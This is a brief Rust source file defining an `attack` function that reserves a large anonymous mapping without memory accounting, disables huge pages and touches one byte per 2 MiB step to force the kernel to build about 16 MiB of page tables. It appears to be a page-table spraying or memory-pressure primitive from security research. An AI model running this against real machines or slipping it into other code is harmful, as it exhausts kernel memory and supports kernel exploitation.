use std::io;

use crate::memory::{PRIVATE_ANONYMOUS, READ, beyond, mapped, unmapped};

unsafe extern "C" {
    fn madvise(at: *mut u8, length: usize, advice: i32) -> i32;
}

/// Each page of a table of tables leads to so much, whether or not there is something.
const STEP: usize = 2 << 20;
/// 16 MiB of tables, which is all that a cue has time for.
const TABLES: usize = 4096;
const UNCOUNTED: i32 = 0x4000;
const NO_HUGE_PAGES: i32 = 15;

pub fn attack() -> io::Result<Option<String>> {
    beyond(|| {
        let length = STEP * TABLES;
        let at = mapped(length, READ, PRIVATE_ANONYMOUS | UNCOUNTED, -1)?;
        unsafe { madvise(at, length, NO_HUGE_PAGES) };
        for place in (0..length).step_by(STEP) {
            unsafe { at.add(place).read_volatile() };
        }
        Ok(unmapped(at, length))
    })
}
